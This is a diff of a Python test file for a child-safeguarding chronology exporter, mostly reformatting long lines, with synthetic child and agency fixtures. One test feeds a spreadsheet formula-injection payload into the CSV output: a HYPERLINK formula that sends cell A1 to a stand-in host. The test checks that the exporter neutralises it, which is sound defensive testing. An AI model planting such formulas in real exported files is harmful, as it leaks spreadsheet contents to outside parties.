@@ -84,10 +84,17 @@ def family(messages: list[Message]) -> tuple[Chronology, ...]:
 
 def _entry(number: int, **changes: object) -> Entry:
     values: dict[str, object] = {
-        "id": f"{ID.format(number)}#", "message_id": ID.format(number), "message_type": "concern",
-        "agency": AgencyId("ods:Y99GP"), "author_role": "Practice nurse", "event_date": PartialDate(2013, 5, 22),
-        "recorded": dt.datetime(2013, 5, 22, 9, tzinfo=dt.UTC), "event_type": "observation",
-        "summary": "Seen at the surgery.", "significance": "Growth checked.", "child_seen": YesNoUnknown.YES,
+        "id": f"{ID.format(number)}#",
+        "message_id": ID.format(number),
+        "message_type": "concern",
+        "agency": AgencyId("ods:Y99GP"),
+        "author_role": "Practice nurse",
+        "event_date": PartialDate(2013, 5, 22),
+        "recorded": dt.datetime(2013, 5, 22, 9, tzinfo=dt.UTC),
+        "event_type": "observation",
+        "summary": "Seen at the surgery.",
+        "significance": "Growth checked.",
+        "child_seen": YesNoUnknown.YES,
     }
     values.update(changes)
     return Entry(**values)  # type: ignore[arg-type]
@@ -100,29 +107,60 @@ def _hostile(field: str = "", text: str = ATTACK) -> Chronology:
         return text if name == field else default
 
     entries = (
-        _entry(1, summary=put("summary", "Seen at the surgery."), significance=put("significance", "Checked."),
-               author_role=put("author_role", "Practice nurse"),
-               source_record_reference=put("source_record_reference", "EX-1"),
-               history=(Version(message_id=ID.format(9), summary=put("history", "First version."),
-                                recorded=dt.datetime(2013, 5, 21, tzinfo=dt.UTC)),)),
+        _entry(
+            1,
+            summary=put("summary", "Seen at the surgery."),
+            significance=put("significance", "Checked."),
+            author_role=put("author_role", "Practice nurse"),
+            source_record_reference=put("source_record_reference", "EX-1"),
+            history=(
+                Version(
+                    message_id=ID.format(9),
+                    summary=put("history", "First version."),
+                    recorded=dt.datetime(2013, 5, 21, tzinfo=dt.UTC),
+                ),
+            ),
+        ),
         _entry(2, event_date=PartialDate(2013, 6), event_type="non_engagement", summary="Missed a review."),
-        _entry(3, event_date=PartialDate(2013, 7, 1), state=EntryState.WITHDRAWN,
-               withdrawal_reason=WithdrawalReason.DUPLICATE),
+        _entry(
+            3,
+            event_date=PartialDate(2013, 7, 1),
+            state=EntryState.WITHDRAWN,
+            withdrawal_reason=WithdrawalReason.DUPLICATE,
+        ),
     )
     probable = (_entry(4, match=Match.PROBABLE, match_reason=put("match_reason", "same name and birth date")),)
     return Chronology(
-        format_version="1.0", generated=GENERATED,
+        format_version="1.0",
+        generated=GENERATED,
         child=ChronologyChild(nhs_number=KAI, birth_date=dt.date(2012, 3, 4), names=(put("names", "Kai Ashdown"),)),
-        entries=entries, probable=probable, conflicts=(ID.format(5),),
-        patterns=(Pattern(kind=PatternKind.UNSEEN_GAP, explanation=put("explanation", "no one saw the child"),
-                          entries=(entries[0].id, entries[2].id)),),
+        entries=entries,
+        probable=probable,
+        conflicts=(ID.format(5),),
+        patterns=(
+            Pattern(
+                kind=PatternKind.UNSEEN_GAP,
+                explanation=put("explanation", "no one saw the child"),
+                entries=(entries[0].id, entries[2].id),
+            ),
+        ),
         unreadable=(Unreadable(source=put("source", "inbox/broken.json"), problem=put("problem", "is not JSON")),),
         agencies=(AgencyId("ods:Y99GP"),),
     )
 
 
-_FIELDS = ("summary", "significance", "author_role", "source_record_reference", "history", "match_reason", "names",
-           "explanation", "source", "problem")
+_FIELDS = (
+    "summary",
+    "significance",
+    "author_role",
+    "source_record_reference",
+    "history",
+    "match_reason",
+    "names",
+    "explanation",
+    "source",
+    "problem",
+)
 _VOID = frozenset({"meta", "br", "wbr", "link", "img", "hr", "input"})
 
 
@@ -195,7 +233,7 @@ def test_csv_marks_probable_matches_withdrawals_and_patterns() -> None:
 @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_neutralises_formula_injection(first: str) -> None:
     """A cell starting with a formula character is prefixed with an apostrophe, in any free-text column."""
-    formula = f"{first}HYPERLINK(\"http://example.org/?\"&A1)"
+    formula = f'{first}HYPERLINK("http://example.org/?"&A1)'
     chronology = attrs.evolve(_hostile(), entries=(_entry(1, summary=formula, author_role=formula),))
     row = next(csv.DictReader(io.StringIO(to_csv(chronology), newline="")))
     assert row["Summary"] == row["Author role"] == "'" + formula
@@ -365,11 +403,15 @@ def _message_ids(chronology: Chronology) -> set[str]:
 
 
 def test_several_children_each_have_their_own_chronology(
-    messages: list[Message], family: tuple[Chronology, ...],
+    messages: list[Message],
+    family: tuple[Chronology, ...],
 ) -> None:
     """The examples give three chronologies, most entries first: each the one --child or --unborn gives alone."""
     assert [(c.child.nhs_number, c.child.mother_nhs_number) for c in family] == [
-        (KAI, None), (None, MOTHER), (TYLER, None)]
+        (KAI, None),
+        (None, MOTHER),
+        (TYLER, None),
+    ]
     kai, unborn, tyler = family
     assert kai == build_chronology(messages, child=KAI, generated=GENERATED)
     assert tyler == build_chronology(messages, child=TYLER, generated=GENERATED)
@@ -416,12 +458,17 @@ def _variants(messages: list[Message]) -> dict[str, Child]:
         "kai, no NHS number": attrs.evolve(kai, identifiers=no_number),
         "kai's local id only": attrs.evolve(kai, name=None, identifiers=no_number),
         "another child, kai's name and birth date": attrs.evolve(
-            kai, identifiers=attrs.evolve(no_number, nhs_number="9990000050", local_ids=())),
+            kai, identifiers=attrs.evolve(no_number, nhs_number="9990000050", local_ids=())
+        ),
         "unborn, due when kai was born": attrs.evolve(unborn, expected_delivery_date=dt.date(2012, 3, 10)),
         "unborn, due in 2014": unborn,
         "unborn, no mother's number": attrs.evolve(unborn, mother=None),
-        "a stranger": attrs.evolve(kai, name=PersonName(given="Sam", family="Nobody"), related_people=(),
-                                   identifiers=attrs.evolve(no_number, local_ids=())),
+        "a stranger": attrs.evolve(
+            kai,
+            name=PersonName(given="Sam", family="Nobody"),
+            related_people=(),
+            identifiers=attrs.evolve(no_number, local_ids=()),
+        ),
     }
 
 
@@ -441,16 +488,20 @@ def test_probable_matches_and_conflicts_are_per_child(messages: list[Message]) -
     Kai's name and birth date but another NHS number has a chronology of their own, a conflict in Kai's."""
     variants = _variants(messages)
     police = next(m for m in messages if str(m.id) == POLICE)
-    copy = attrs.evolve(_subject(police, identifiers=attrs.evolve(police.subject.identifiers, nhs_number=None)),
-                        id=uuid.UUID(ID.format(77)))
-    other = attrs.evolve(_about(messages[1], variants["another child, kai's name and birth date"]),
-                         id=uuid.UUID(ID.format(78)))
+    copy = attrs.evolve(
+        _subject(police, identifiers=attrs.evolve(police.subject.identifiers, nhs_number=None)),
+        id=uuid.UUID(ID.format(77)),
+    )
+    other = attrs.evolve(
+        _about(messages[1], variants["another child, kai's name and birth date"]), id=uuid.UUID(ID.format(78))
+    )
     family = {c.child.nhs_number: c for c in build_chronologies([*messages, copy, other], generated=GENERATED)}
     assert {e.message_id for e in family[TYLER].probable} == {ID.format(77)}
     assert not family[KAI].probable
     assert family[KAI].conflicts == (str(other.id),)
-    assert family["9990000050"].conflicts == tuple(sorted(str(m.id) for m in messages
-                                                          if m.subject.identifiers.nhs_number == KAI))
+    assert family["9990000050"].conflicts == tuple(
+        sorted(str(m.id) for m in messages if m.subject.identifiers.nhs_number == KAI)
+    )
     assert str(other.id) not in _message_ids(family[KAI])
 
 
@@ -475,8 +526,7 @@ def test_each_chronology_is_the_one_its_child_gives_alone(choices: list[int]) ->
     child's own chronology holds only messages linked to no child born; only messages no rule places are named."""
     messages = list({str(m.id): m for m in _examples()}.values())  # one view of each, so each has one subject
     variants = list(_variants(messages).items())
-    chosen = [(variants[c][0], _about(m, variants[c][1]))
-              for c, m in zip(choices, messages, strict=True)]
+    chosen = [(variants[c][0], _about(m, variants[c][1])) for c, m in zip(choices, messages, strict=True)]
     mixed = [m for _, m in chosen]
     family = build_chronologies(mixed, generated=GENERATED)
     born = [c for c in family if c.child.nhs_number]
@@ -518,7 +568,8 @@ def test_csv_of_several_children_says_whose_each_row_is(family: tuple[Chronology
     rows = list(csv.DictReader(io.StringIO(to_csv_many(family), newline="")))
     assert CSV_COLUMNS[0] == "Child"
     assert [r["Child"] for r in rows] == [KAI] * len(family[0].entries) + [f"unborn of {MOTHER}"] * len(
-        family[1].entries) + [TYLER]
+        family[1].entries
+    ) + [TYLER]
     assert [r["Entry id"] for r in rows] == [e.id for c in family for e in c.entries]
     assert rows[-1]["Message id"] == POLICE
     assert to_csv_many(family[:1]) == to_csv(family[0])
